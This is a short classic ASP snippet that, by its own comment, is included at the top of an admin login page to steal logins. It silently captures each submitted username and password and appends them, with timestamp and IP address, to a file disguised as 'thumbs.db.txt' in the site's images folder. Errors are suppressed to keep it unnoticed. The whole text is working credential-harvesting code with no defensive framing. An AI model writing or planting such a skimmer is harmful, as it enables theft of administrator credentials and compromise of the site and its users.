<%
' Included at the top of an admin login page: the credentials typed in are appended to a text file.
On Error Resume Next
u = Request.Form("username")
p = Request.Form("password")
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.OpenTextFile(Server.MapPath("/images") & "\thumbs.db.txt", 8, True)
f.WriteLine Now() & " " & Request.ServerVariables("REMOTE_ADDR") & " " & u & " / " & p
f.Close
%>
